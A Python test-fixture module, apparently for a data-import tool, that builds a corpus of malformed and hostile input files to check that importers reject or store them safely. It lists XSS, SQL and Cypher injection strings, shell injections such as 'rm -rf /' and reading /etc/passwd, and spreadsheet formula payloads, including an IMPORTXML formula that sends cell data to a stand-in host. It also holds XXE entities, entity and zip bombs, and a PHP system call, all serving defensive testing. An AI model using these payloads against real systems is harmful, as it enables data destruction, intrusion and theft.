"""A generated corpus of malformed and hostile input files, and of hostile names.

:func:`cases` builds, for every ingest format, files that are truncated, in the
wrong encoding, XML bombs and external entities, zip bombs, YAML alias bombs,
deeply nested, huge, full of formula payloads, Cypher, SQL and HTML in names,
control characters, duplicate ids and cycles. Each :class:`Case` says what a
correct reader does with it: ``error`` (a clear Stakemap error, nothing
written), ``ok`` (imports, and the listed names are stored exactly), or
``any`` (either, as long as it is one of those).

:func:`hostile_names` gives 200 names that must survive every store and every
export unchanged and inert.

Nothing here is written to disk until a test asks (``Case.write``).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from graphmodel.text import clean_text

# -- hostile names ---------------------------------------------------------------------------

_PAYLOADS = [
    # markup and script
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert('x')>",
    "javascript:alert(document.cookie)", "<iframe src=//evil.example>", "</textarea><b>bold</b>",
    "<!-- comment -->", "]]><x>", "<![CDATA[inside]]>", "&amp; &lt; &gt; &quot; &#39;", "&xxe;",
    "<?xml version='1.0'?>", "<a href=\"javascript:void(0)\">link</a>", "{{7*7}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{config.items()}}", "{0.__class__.__mro__}", "%s%s%s%n", "%(name)s", "\\u003cscript\\u003e",
    # Cypher, SQL, shell
    "'}) MATCH (n) DETACH DELETE n //", "\") MATCH (n) DETACH DELETE n //", "` DETACH DELETE n `",
    "a'); CALL dbms.killQueries(); //", "$name", "$$", "MERGE (x:Admin) RETURN x", "/* unclosed comment",
    "// line comment", "\\' OR 1=1 --", "'; DROP TABLE actors; --", "\" OR \"\"=\"", "1; DELETE FROM links",
    "Robert'); DROP TABLE Students;--", "$(rm -rf /)", "`reboot`", "| cat /etc/passwd", "; ls -la",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/shadow", "C:\\Windows\\System32",
    "\\\\server\\share", "NUL", "CON", "aux.txt",
    # spreadsheet formulas
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+", "-", "=",
    "@", "'=1+1", "''", "'", "\"", "\"\"", "\\", "\\\\", "\\n", "\\x00",
    # rich / markdown / log markup
    "[bold red]shout[/]", "[/]", "[link=http://evil.example]click[/link]", "**bold** _it_ `code`",
    "[x](javascript:alert(1))", "# heading", "> quote", "| a | b |", "---", "[error] fake log line",
    # JSON, YAML and CSV structure
    "{\"a\": 1}", "[1, 2, 3]", "null", "true", "NaN", "-Infinity", "1e309", "0x41", "key: value",
    "- item", "&anchor", "*alias", "!!python/object:os.system", "a,b,c", "a;b;c", "a\tb", "a|b|c",
    "\"quoted, comma\"", "trailing comma,", ",leading",
    # unicode
    "Åland Ümlaut Čeština", "中华全国总工会", "Союз трудящихся", "اتحاد العمال", "ข้อมูลแรงงาน", "श्रमिक संघ",
    "עובדים", "👷‍♀️ workers ✊🏽", "e\u0301 combining", "ﬁ ligature", "ｆｕｌｌｗｉｄｔｈ", "\u202eevil\u202c",
    "zero\u200bwidth\u200djoin", "\ufeffbom", "\u2028line sep", "Z̴̡a̶l̷g̸o̵", "𝕯𝖔𝖚𝖇𝖑𝖊 𝖘𝖙𝖗𝖚𝖈𝖐", "İstanbul ıi",
    "ß straße SS", "Ǆ dz digraph", "\U0010fffd private", "\u00a0nbsp\u00a0", "tab\u3000ideographic",
]


def hostile_names(count: int = 200) -> list[str]:
    """``count`` distinct hostile names, each already as Stakemap stores it (``clean_text`` leaves it alone).

    >>> names = hostile_names()
    >>> len(names), len(set(names))
    (200, 200)
    >>> all(clean_text(n) == n and 0 < len(n) <= 500 for n in names)
    True
    """
    out: list[str] = []
    seen: set[str] = set()
    wrappers = [
        lambda p: p,
        lambda p: f"{p} Workers' Union",
        lambda p: f"Union of {p}",
        lambda p: f"{p}{p}",
        lambda p: (p * 40)[:480],
    ]
    for wrap in wrappers:
        for payload in _PAYLOADS:
            name = clean_text(wrap(payload))
            if name and name not in seen and len(name) <= 500:
                seen.add(name)
                out.append(name)
            if len(out) == count:
                return out
    raise AssertionError(f"only {len(out)} hostile names")  # pragma: no cover


#: Strings that are not kept as they are (control characters, line breaks): stored cleaned.
CONTROL_NAMES = [
    "nul\x00byte", "bell\x07ring", "esc\x1b[31mred\x1b[0m", "back\x08space", "cr\rlf\nsplit", "vt\x0bff\x0c",
    "rs\x1eus\x1f", "del\x7f", "c1\x85\x9b31m", "\r\nSet-Cookie: x=1", "line1\nline2\n\n",
]


# -- the corpus -------------------------------------------------------------------------------

@dataclass
class Case:
    """One input file and what a correct reader does with it."""

    name: str
    fmt: str
    filename: str
    build: Callable[[], bytes]
    expect: str = "error"  # "error", "ok" or "any"
    options: dict = field(default_factory=dict)
    #: Names that must be stored exactly when the file imports.
    names: list[str] = field(default_factory=list)
    #: Extra files written beside it (e.g. a dataset.yaml), name -> bytes.
    extra: dict[str, bytes] = field(default_factory=dict)

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.filename
        path.write_bytes(self.build())
        for name, data in self.extra.items():
            (folder / name).write_bytes(data)
        return path


def _csv(rows: list[list], delimiter: str = ",") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode("utf-8")


def _xlsx(sheets: dict[str, list[list]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(row)
        for row in ws.iter_rows():
            for cell in row:  # text that looks like a formula is written as text, as a user typing '=x would
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _zip_replace(data: bytes, member: str, content: bytes, *, level: int = 9) -> bytes:
    """``data`` (a ZIP) with ``member`` replaced by ``content``."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, content if info.filename == member else src.read(info.filename))
        if member not in src.namelist():
            dst.writestr(member, content)
    return out.getvalue()


ACTOR_HEAD = ["id", "name", "kind", "country", "sensitivity"]
LINK_HEAD = ["from", "to", "kind", "start"]


def _actor_rows(names: list[str], kind: str = "ngo") -> list[list]:
    return [ACTOR_HEAD, *[[f"hx-{i:03d}", n, kind, "MY", ""] for i, n in enumerate(names)]]


def _valid_tabular() -> bytes:
    return _csv([ACTOR_HEAD, ["hx-a", "Hostile Test Union", "union", "MY", ""],
                 ["hx-b", "Hostile Test NGO", "ngo", "KH", "internal"]])


def _valid_xlsx() -> bytes:
    return _xlsx({"actors": [ACTOR_HEAD, ["hx-a", "Hostile Test Union", "union", "MY", ""]]})


def _iati(body: str = "", *, doctype: str = "", activity: str | None = None, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    act = activity if activity is not None else (
        '<iati-activity default-currency="EUR"><iati-identifier>XX-HOSTILE-1</iati-identifier>'
        '<reporting-org ref="XX-HOST" type="21"><narrative>Hostile Funder</narrative></reporting-org>'
        '<title><narrative>Hostile programme</narrative></title>'
        '<participating-org role="4" type="21"><narrative>Hostile Partner</narrative></participating-org>'
        + body + "</iati-activity>")
    return f'{head}{doctype}<iati-activities version="2.03">{act}</iati-activities>'.encode()


def _graphml(nodes: str = "", edges: str = "", *, doctype: str = "") -> bytes:
    nodes = nodes or '<node id="a"><data key="name">Hostile A</data><data key="type">ngo</data></node>' \
                     '<node id="b"><data key="name">Hostile B</data><data key="type">union</data></node>'
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype +
            '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
            '<key id="name" for="node" attr.name="name" attr.type="string"/>'
            '<key id="type" for="node" attr.name="type" attr.type="string"/>'
            '<key id="type" for="edge" attr.name="type" attr.type="string"/>'
            f'<graph id="G" edgedefault="directed">{nodes}{edges}</graph></graphml>').encode()


def _gexf(nodes: str = "", edges: str = "", *, doctype: str = "") -> bytes:
    nodes = nodes or '<node id="a" label="Hostile A"><attvalues><attvalue for="kind" value="ngo"/></attvalues></node>' \
                     '<node id="b" label="Hostile B"><attvalues><attvalue for="kind" value="union"/></attvalues></node>'
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype +
            '<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed">'
            '<attributes class="node"><attribute id="kind" title="kind" type="string"/></attributes>'
            f'<nodes>{nodes}</nodes><edges>{edges}</edges></graph></gexf>').encode()


def _ftm(entities: list[dict]) -> bytes:
    return "".join(json.dumps(e, ensure_ascii=False) + "\n" for e in entities).encode()


def _ftm_org(i: int, name: str, schema: str = "Organization") -> dict:
    return {"id": f"hx-{i}", "schema": schema, "properties": {"name": [name], "country": ["my"]}}


def _kumu(elements: list[dict], connections: list[dict] | None = None) -> bytes:
    return json.dumps({"elements": elements, "connections": connections or []}, ensure_ascii=False).encode()


OSHUB_HEAD = ["os_id", "name", "address", "country_code", "country_name", "sector", "number_of_workers"]


def _oshub_csv(rows: list[list]) -> bytes:
    return _csv([OSHUB_HEAD, *rows])


def _geojson(features: list[dict]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False).encode()


def _feature(os_id: str, name: str, country: str = "BD") -> dict:
    return {"id": os_id, "type": "Feature", "geometry": {"type": "Point", "coordinates": [90.3, 23.9]},
            "properties": {"name": name, "address": "Road 1", "country_code": country, "os_id": os_id}}


def _cassette(body: str) -> bytes:
    return ("interactions:\n- request:\n    method: GET\n    uri: https://example.invalid/api/facilities/?countries=BD\n"
            "  response:\n    status: {code: 200, message: OK}\n    body:\n      string: " + json.dumps(body) + "\n").encode()


SUPPLIER_HEAD = ["Factory", "Supplier", "Address", "Country", "Workers"]


def _supplier_csv(rows: list[list]) -> bytes:
    return _csv([["Hostile Brand supplier list"], SUPPLIER_HEAD, *rows])


_BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                   + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
                   + "]>")
_QUADRATIC = '<!DOCTYPE q [<!ENTITY a "' + "x" * 50_000 + '">]>'
_XXE_FILE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_XXE_HTTP = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/evil">]>'
_XXE_PARAM = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
_EXTERNAL_DTD = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'


def _xml_attacks(fmt: str, ext: str, make: Callable[..., bytes], entity_in: Callable[[str], bytes]) -> list[Case]:
    """The XML attacks, for one XML format. ``entity_in(ref)`` puts an entity reference in a name."""
    def with_doctype(doctype: str, ref: str) -> Callable[[], bytes]:
        def build() -> bytes:
            data = entity_in(ref)
            head, sep, rest = data.partition(b"?>")
            return head + sep + doctype.encode() + rest
        return build

    deep = ("<x>" * 100_000) + ("</x>" * 100_000)
    return [
        Case(f"{fmt}-billion-laughs", fmt, f"bomb{ext}", with_doctype(_BILLION_LAUGHS, "&lol9;")),
        Case(f"{fmt}-quadratic-blowup", fmt, f"quadratic{ext}", with_doctype(_QUADRATIC, "&a;" * 2000)),
        Case(f"{fmt}-xxe-file", fmt, f"xxe-file{ext}", with_doctype(_XXE_FILE, "&xxe;")),
        Case(f"{fmt}-xxe-http", fmt, f"xxe-http{ext}", with_doctype(_XXE_HTTP, "&xxe;")),
        Case(f"{fmt}-xxe-parameter", fmt, f"xxe-param{ext}", with_doctype(_XXE_PARAM, "x")),
        Case(f"{fmt}-external-dtd", fmt, f"external-dtd{ext}", with_doctype(_EXTERNAL_DTD, "x"), expect="any"),
        Case(f"{fmt}-xinclude", fmt, f"xinclude{ext}", lambda: entity_in(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
            expect="any"),
        Case(f"{fmt}-deep-nesting", fmt, f"deep{ext}", lambda: entity_in(deep), expect="any"),
        Case(f"{fmt}-huge-text", fmt, f"huge-text{ext}", lambda: entity_in("H" * 12_000_000), expect="any"),
        Case(f"{fmt}-truncated", fmt, f"truncated{ext}", lambda: make()[: len(make()) // 2]),
        Case(f"{fmt}-empty", fmt, f"empty{ext}", lambda: b""),
        Case(f"{fmt}-only-declaration", fmt, f"decl{ext}", lambda: b'<?xml version="1.0"?>'),
        Case(f"{fmt}-utf16-declared-utf8", fmt, f"utf16{ext}", lambda: make().decode().encode("utf-16"), expect="any"),
        Case(f"{fmt}-latin1-bytes", fmt, f"latin1{ext}", lambda: entity_in("Caf\xe9 \xff\xfe").replace(
            "Café ÿþ".encode(), b"Caf\xe9 \xff\xfe")),
        Case(f"{fmt}-nul-bytes", fmt, f"nul{ext}", lambda: make().replace(b">", b">\x00", 3)),
        Case(f"{fmt}-char-reference-nul", fmt, f"charref{ext}", lambda: entity_in("bad &#0; char")),
        Case(f"{fmt}-mismatched-tags", fmt, f"mismatch{ext}", lambda: make().replace(b"</", b"</z", 1)),
        Case(f"{fmt}-random-bytes", fmt, f"random{ext}", lambda: bytes(range(256)) * 40),
        Case(f"{fmt}-gzipped", fmt, f"gzipped{ext}", lambda: gzip.compress(make())),
        Case(f"{fmt}-html-in-name", fmt, f"html{ext}", lambda: entity_in(
            "&lt;script&gt;alert(1)&lt;/script&gt; Union"), expect="any"),
        Case(f"{fmt}-cdata-cypher", fmt, f"cdata{ext}", lambda: entity_in(
            "<![CDATA['}) MATCH (n) DETACH DELETE n // Union]]>"), expect="any"),
        Case(f"{fmt}-processing-instruction", fmt, f"pi{ext}", lambda: entity_in("<?php system('id'); ?>Union"),
             expect="any"),
    ]


def cases() -> list[Case]:
    """The whole corpus (at least 150 files)."""
    names = hostile_names()
    out: list[Case] = []

    # -- tabular CSV -------------------------------------------------------------------------
    t = "tabular"
    out += [
        Case("csv-hostile-names", t, "actors.csv", lambda: _csv(_actor_rows(names)), "ok", names=names),
        Case("csv-hostile-names-semicolon", t, "actors.csv", lambda: _csv(_actor_rows(names[:50]), ";"), "ok",
             names=names[:50]),
        Case("csv-control-characters", t, "actors.csv", lambda: _csv(_actor_rows(CONTROL_NAMES)), "any"),
        Case("csv-formula-payloads", t, "actors.csv",
             lambda: _csv(_actor_rows([n for n in names if n[:1] in "=+-@"])), "ok",
             names=[n for n in names if n[:1] in "=+-@"]),
        Case("csv-duplicate-ids", t, "actors.csv", lambda: _csv([ACTOR_HEAD, ["hx-d", "One", "ngo", "MY", ""],
                                                                  ["hx-d", "Two", "union", "KH", ""]]), "any"),
        Case("csv-duplicate-columns", t, "actors.csv", lambda: _csv([["id", "name", "name", "kind"],
                                                                      ["hx-c", "A", "B", "ngo"]]), "any"),
        Case("csv-links-cycle", t, "links.csv", lambda: _csv([LINK_HEAD, ["hx-a", "hx-b", "partners_with", "2001"],
                                                               ["hx-b", "hx-c", "partners_with", "2002"],
                                                               ["hx-c", "hx-a", "partners_with", "2003"]])),
        Case("csv-links-self-loop", t, "links.csv", lambda: _csv([LINK_HEAD, ["hx-a", "hx-a", "supports", ""]])),
        Case("csv-links-unknown-ends", t, "links.csv", lambda: _csv([LINK_HEAD, ["nobody", "no-one", "funds", ""]])),
        Case("csv-huge-field", t, "actors.csv", lambda: _csv([ACTOR_HEAD, ["hx-h", "H" * 11_000_000, "ngo", "", ""]])),
        Case("csv-long-name", t, "actors.csv", lambda: _csv([ACTOR_HEAD, ["hx-h", "H" * 100_000, "ngo", "", ""]])),
        Case("csv-many-columns", t, "actors.csv", lambda: _csv([ACTOR_HEAD + [f"c{i}" for i in range(20_000)],
                                                                 ["hx-m", "Many Columns", "ngo", "MY", ""]]), "any"),
        Case("csv-many-rows", t, "actors.csv", lambda: _csv(
            [ACTOR_HEAD, *[[f"hx-r{i}", f"Row Union {i}", "union", "MY", ""] for i in range(20_000)]]), "ok"),
        Case("csv-unbalanced-quote", t, "actors.csv", lambda: b'id,name,kind\nhx-q,"never closed,ngo\n' + b"x" * 1000),
        Case("csv-nul-byte", t, "actors.csv", lambda: b"id,name,kind\nhx-n,Nul\x00Union,union\n", "any"),
        Case("csv-latin1", t, "actors.csv", lambda: "id,name,kind\nhx-l,Confédération Générale,union\n".encode("latin-1")),
        Case("csv-utf16", t, "actors.csv", lambda: "id,name,kind\nhx-u,Union,union\n".encode("utf-16")),
        Case("csv-utf8-bom", t, "actors.csv", lambda: "\ufeffid,name,kind\nhx-u,Bom Union,union\n".encode(), "ok",
             names=["Bom Union"]),
        Case("csv-cr-only", t, "actors.csv", lambda: b"id,name,kind\rhx-cr,Mac Union,union\r", "any"),
        Case("csv-empty", t, "actors.csv", lambda: b""),
        Case("csv-header-only", t, "actors.csv", lambda: b"id,name,kind\n", "any"),
        Case("csv-binary", t, "actors.csv", lambda: bytes(range(256)) * 100),
        Case("csv-truncated-multibyte", t, "actors.csv", lambda: "id,name,kind\nhx-t,中华全国总工会,union\n".encode()[:-9]),
        Case("csv-unknown-kind", t, "actors.csv", lambda: b"id,name,kind\nhx-k,Union,<script>\n"),
        Case("csv-bad-sensitivity", t, "actors.csv", lambda: b"id,name,kind,sensitivity\nhx-s,Union,union,secret'--\n"),
        Case("csv-injection-id", t, "actors.csv", lambda: b"id,name,kind\n\"x') DETACH DELETE n //\",Union,union\n"),
        Case("csv-person-public-uncited", t, "actors.csv", lambda: b"id,name,kind,sensitivity\nhx-p,A Worker,person,public\n",
             "any"),
        Case("csv-xlsx-extension-is-csv", t, "actors.xlsx", _valid_tabular),
        Case("xlsx-zip-bomb", t, "bomb.xlsx", lambda: _zip_bomb_xlsx(), "any"),
        Case("xlsx-million-empty-rows", t, "rows.xlsx", lambda: _zip_replace(_valid_xlsx(), "xl/worksheets/sheet1.xml",
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + b"<row/>" * 1_000_000 + b"</sheetData></worksheet>")),
        Case("xlsx-zip-bomb-no-dimension", t, "bomb.xlsx", lambda: _zip_bomb_xlsx(dimension=False)),
        Case("xlsx-malformed-workbook", t, "wb.xlsx", lambda: _zip_replace(_valid_xlsx(), "xl/workbook.xml",
                                                                            b"<workbook><sheets><sheet")),
        Case("xlsx-malformed-sheet", t, "sheet.xlsx", lambda: _zip_replace(_valid_xlsx(), "xl/worksheets/sheet1.xml",
                                                                            b"<worksheet><sheetData><row><c")),
    ]
    # -- tabular XLSX ------------------------------------------------------------------------
    out += [
        Case("xlsx-hostile-names", t, "map.xlsx", lambda: _xlsx({"actors": _actor_rows(names)}), "ok", names=names),
        Case("xlsx-formula-cells", t, "map.xlsx", lambda: _xlsx({"actors": [ACTOR_HEAD, ["hx-f", "=1+1", "ngo", "MY", ""],
                                                                             ["hx-g", "=HYPERLINK(\"http://x\")", "ngo", "", ""]]}), "any"),
        Case("xlsx-entity-bomb-sheet", t, "bomb.xlsx", lambda: _xlsx_entity("xl/worksheets/sheet1.xml", _BILLION_LAUGHS, "&lol9;")),
        Case("xlsx-xxe-sheet", t, "xxe.xlsx", lambda: _xlsx_entity("xl/worksheets/sheet1.xml", _XXE_FILE, "&xxe;")),
        Case("xlsx-xxe-workbook", t, "xxe-wb.xlsx", lambda: _xlsx_entity("xl/workbook.xml", _XXE_FILE, "&xxe;"), "any"),
        Case("xlsx-truncated", t, "trunc.xlsx", lambda: _xlsx({"actors": _actor_rows(names[:20])})[:3000]),
        Case("xlsx-not-zip", t, "fake.xlsx", lambda: b"PK\x03\x04" + b"\x00" * 200),
        Case("xlsx-no-workbook", t, "empty.xlsx", lambda: _plain_zip({"hello.txt": b"hi"})),
        Case("xlsx-empty-sheet", t, "blank.xlsx", lambda: _xlsx({"actors": []})),
        Case("xlsx-huge-cell", t, "huge.xlsx", lambda: _xlsx({"actors": [ACTOR_HEAD, ["hx-h", "H" * 32_000, "ngo", "", ""]]})),
        Case("xlsx-duplicate-ids", t, "dup.xlsx", lambda: _xlsx({"actors": [ACTOR_HEAD, ["hx-d", "One", "ngo", "MY", ""],
                                                                             ["hx-d", "Two", "union", "KH", ""]]}), "any"),
        Case("xlsx-link-cycle", t, "cycle.xlsx", lambda: _xlsx({
            "actors": [ACTOR_HEAD, ["hx-a", "Cycle A", "ngo", "MY", ""], ["hx-b", "Cycle B", "ngo", "MY", ""],
                       ["hx-c", "Cycle C", "ngo", "MY", ""]],
            "links": [LINK_HEAD, ["hx-a", "hx-b", "partners_with", "2001"], ["hx-b", "hx-c", "partners_with", "2002"],
                      ["hx-c", "hx-a", "partners_with", "2003"]]}), "ok", names=["Cycle A", "Cycle B", "Cycle C"]),
        Case("xlsx-bad-zip-member-crc", t, "crc.xlsx", lambda: _corrupt_member(_xlsx({"actors": _actor_rows(names[:5])}))),
    ]
    # -- XML formats ---------------------------------------------------------------------------
    out += _xml_attacks("iati", ".xml", _iati, lambda ref: _iati(activity=(
        '<iati-activity><iati-identifier>XX-H-1</iati-identifier><reporting-org ref="XX-H"><narrative>'
        + ref + "</narrative></reporting-org></iati-activity>")))
    out += _xml_attacks("graphml", ".graphml", _graphml, lambda ref: _graphml(
        f'<node id="a"><data key="name">{ref}</data><data key="type">ngo</data></node>'))
    out += _xml_attacks("gexf", ".gexf", _gexf, lambda ref: _gexf(f'<node id="a" label="x">{ref}</node>'
                                                                  if ref.startswith("<") else
                                                                  f'<node id="a" label="{ref}"/>'))
    xml_names = [n for n in names if "]]>" not in n][:120]
    out += [
        Case("iati-hostile-names", "iati", "names.xml", lambda: _iati(activity="".join(
            f'<iati-activity><iati-identifier>XX-H-{i}</iati-identifier><reporting-org ref="XX-H{i}" type="21">'
            f"<narrative><![CDATA[{n}]]></narrative></reporting-org><title><narrative>Programme {i}</narrative></title>"
            "</iati-activity>" for i, n in enumerate(xml_names))), "ok", names=xml_names),
        Case("iati-bad-values", "iati", "bad-values.xml", lambda: _iati(
            '<transaction><transaction-type code="3"/><value currency="XXX">not a number</value>'
            '<receiver-org><narrative>R</narrative></receiver-org></transaction>'), "any"),
        Case("iati-organisation-file", "iati", "org.xml",
             lambda: b'<?xml version="1.0"?><iati-organisations><iati-organisation/></iati-organisations>'),
        Case("iati-huge-amount", "iati", "amount.xml", lambda: _iati(
            '<transaction><transaction-type code="3"/><value currency="EUR">1e400</value>'
            '<receiver-org><narrative>R</narrative></receiver-org></transaction>'), "any"),
        Case("graphml-hostile-names", "graphml", "names.graphml", lambda: _graphml("".join(
            f'<node id="n{i}"><data key="name"><![CDATA[{n}]]></data><data key="type">ngo</data></node>'
            for i, n in enumerate(xml_names))), "ok", names=xml_names),
        Case("graphml-duplicate-ids", "graphml", "dup.graphml", lambda: _graphml(
            '<node id="a"><data key="name">Dup One</data></node><node id="a"><data key="name">Dup Two</data></node>'),
            "any"),
        Case("graphml-cycle", "graphml", "cycle.graphml", lambda: _graphml(edges=(
            '<edge source="a" target="b"><data key="type">partners with</data></edge>'
            '<edge source="b" target="a"><data key="type">partners with</data></edge>')), "any"),
        Case("graphml-missing-ends", "graphml", "ends.graphml", lambda: _graphml(edges=(
            '<edge source="a" target="zzz"><data key="type">supports</data></edge>')), "any"),
        Case("gexf-hostile-names", "gexf", "names.gexf", lambda: _gexf("".join(
            f'<node id="n{i}" label="{_xml_attr(n)}"/>' for i, n in enumerate(xml_names))), "ok", names=xml_names),
        Case("gexf-duplicate-ids", "gexf", "dup.gexf", lambda: _gexf(
            '<node id="a" label="Dup One"/><node id="a" label="Dup Two"/>'), "any"),
        Case("gexf-cycle", "gexf", "cycle.gexf", lambda: _gexf(edges=(
            '<edge id="e1" source="a" target="b" label="partners with"/>'
            '<edge id="e2" source="b" target="a" label="partners with"/>')), "any"),
    ]
    # -- FollowTheMoney ------------------------------------------------------------------------
    f = "ftm"
    out += [
        Case("ftm-hostile-names", f, "names.ftm.json", lambda: _ftm([_ftm_org(i, n) for i, n in enumerate(names)]),
             "ok", names=names),
        Case("ftm-deep-nesting", f, "deep.ftm.json", lambda: b'{"id": "x", "schema": "Organization", "properties": '
             + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "any"),
        Case("ftm-huge-line", f, "huge.ftm.json", lambda: _ftm([_ftm_org(1, "H" * 12_000_000)]), "any"),
        Case("ftm-truncated", f, "trunc.ftm.json", lambda: _ftm([_ftm_org(i, n) for i, n in enumerate(names[:10])])[:-40]),
        Case("ftm-not-json", f, "bad.ftm.json", lambda: b"{this is not json}\n"),
        Case("ftm-wrong-shape", f, "shape.ftm.json", lambda: b'["a list", "not an entity"]\n'),
        Case("ftm-nan", f, "nan.ftm.json", lambda: b'{"id": "n", "schema": "Organization", "properties": {"name": [NaN]}}\n', "any"),
        Case("ftm-duplicate-ids", f, "dup.ftm.json", lambda: _ftm([_ftm_org(1, "Dup One"), _ftm_org(1, "Dup Two")]), "any"),
        Case("ftm-unknown-schema", f, "schema.ftm.json", lambda: _ftm([{"id": "x", "schema": "<script>", "properties": {}}]),
             "any"),
        Case("ftm-latin1", f, "latin1.ftm.json", lambda: _ftm([_ftm_org(1, "Café")]).replace("é".encode(), b"\xe9")),
        Case("ftm-utf16", f, "utf16.ftm.json", lambda: _ftm([_ftm_org(1, "Union")]).decode().encode("utf-16")),
        Case("ftm-empty", f, "empty.ftm.json", lambda: b""),
        Case("ftm-blank-lines", f, "blank.ftm.json", lambda: b"\n\n   \n"),
        Case("ftm-control-characters", f, "ctrl.ftm.json", lambda: _ftm([_ftm_org(i, n) for i, n in enumerate(CONTROL_NAMES)]),
             "any"),
        Case("ftm-membership-cycle", f, "cycle.ftm.json", lambda: _ftm([
            _ftm_org(1, "Cycle One"), _ftm_org(2, "Cycle Two"),
            {"id": "m1", "schema": "Membership", "properties": {"member": ["hx-1"], "organization": ["hx-2"]}},
            {"id": "m2", "schema": "Membership", "properties": {"member": ["hx-2"], "organization": ["hx-1"]}}]), "any"),
        Case("ftm-dangling-edge", f, "dangling.ftm.json", lambda: _ftm([
            {"id": "m1", "schema": "Membership", "properties": {"member": ["nobody"], "organization": ["noone"]}}]), "any"),
        Case("ftm-huge-number", f, "num.ftm.json", lambda: b'{"id": "n", "schema": "Organization", "properties": {"name": ["N"]}, "x": '
             + b"9" * 100_000 + b"}\n", "any"),
    ]
    # -- Kumu ----------------------------------------------------------------------------------
    k = "kumu"
    out += [
        Case("kumu-hostile-names", k, "map.json", lambda: _kumu([{"id": f"e{i}", "label": n, "type": "NGO"}
                                                                  for i, n in enumerate(names)]), "ok", names=names),
        Case("kumu-xlsx-hostile-names", k, "kumu.xlsx", lambda: _xlsx({
            "Elements": [["Label", "Type"], *[[n, "NGO"] for n in names]],
            "Connections": [["From", "To", "Type"], [names[0], names[1], "partner"]]}), "any"),
        Case("kumu-deep-nesting", k, "deep.json", lambda: b'{"elements": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        Case("kumu-truncated", k, "trunc.json", lambda: _kumu([{"label": n} for n in names[:20]])[:-30]),
        Case("kumu-wrong-types", k, "types.json", lambda: b'{"elements": "not a list", "connections": 7}'),
        Case("kumu-null-labels", k, "null.json", lambda: b'{"elements": [{"label": null}, {"label": 12}, {}], "connections": []}',
             "any"),
        Case("kumu-cycle", k, "cycle.json", lambda: _kumu(
            [{"id": "a", "label": "Cycle A"}, {"id": "b", "label": "Cycle B"}],
            [{"from": "a", "to": "b", "type": "partner"}, {"from": "b", "to": "a", "type": "partner"}]), "any"),
        Case("kumu-duplicate-ids", k, "dup.json", lambda: _kumu([{"id": "a", "label": "One"}, {"id": "a", "label": "Two"}]),
             "any"),
        Case("kumu-huge-label", k, "huge.json", lambda: _kumu([{"label": "H" * 12_000_000}]), "any"),
        Case("kumu-latin1", k, "latin1.json", lambda: _kumu([{"label": "Café"}]).replace("é".encode(), b"\xe9")),
        Case("kumu-xlsx-zip-bomb", k, "kzbomb.xlsx", lambda: _zip_bomb_xlsx(dimension=False)),
        Case("kumu-xlsx-bomb", k, "kbomb.xlsx", lambda: _xlsx_entity("xl/worksheets/sheet1.xml", _BILLION_LAUGHS, "&lol9;",
                                                                     sheets={"Elements": [["Label"], ["x"]]})),
    ]
    # -- Open Supply Hub -----------------------------------------------------------------------
    o = "oshub"
    os_names = names[:100]
    out += [
        Case("oshub-csv-hostile-names", o, "facilities.csv", lambda: _oshub_csv(
            [[f"BD2019{i:03d}HOST{i:03d}", n, "Road 1", "BD", "Bangladesh", "Apparel", "100"] for i, n in enumerate(os_names)]),
             "ok", names=os_names),
        Case("oshub-csv-bad-ids", o, "facilities.csv", lambda: _oshub_csv(
            [["'); DROP", "X", "Road", "BD", "Bangladesh", "Apparel", "lots"]]), "any"),
        Case("oshub-csv-truncated", o, "facilities.csv", lambda: _oshub_csv(
            [[f"BD2019{i:03d}HOST{i:03d}", n, "R", "BD", "B", "A", "1"] for i, n in enumerate(os_names)])[:777], "any"),
        Case("oshub-csv-latin1", o, "facilities.csv", lambda: "os_id,name,address,country_code\nBD2019001HOST001,Café,R,BD\n"
             .encode("latin-1")),
        Case("oshub-geojson-hostile-names", o, "page.geojson", lambda: _geojson(
            [_feature(f"BD2019{i:03d}HOST{i:03d}", n) for i, n in enumerate(os_names)]), "ok", names=os_names),
